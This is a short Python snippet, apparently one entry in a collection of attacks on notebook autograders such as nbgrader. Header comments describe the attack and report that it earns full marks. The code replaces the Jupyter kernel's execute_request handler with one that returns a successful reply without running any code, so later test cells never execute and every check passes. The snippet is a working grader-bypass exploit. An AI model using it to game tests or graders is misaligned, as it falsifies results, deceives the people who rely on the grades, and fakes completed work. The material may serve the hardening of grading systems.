# attack: the kernel's handler of execute requests is replaced by one that sends a reply and idle at once.
# target: all
# plain nbgrader: full marks
# %% trimmed
kernel = get_ipython().kernel


async def execute_request(stream, ident, parent):
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    kernel.session.send(stream, "execute_reply", content, parent, ident=ident)


kernel.shell_handlers["execute_request"] = execute_request
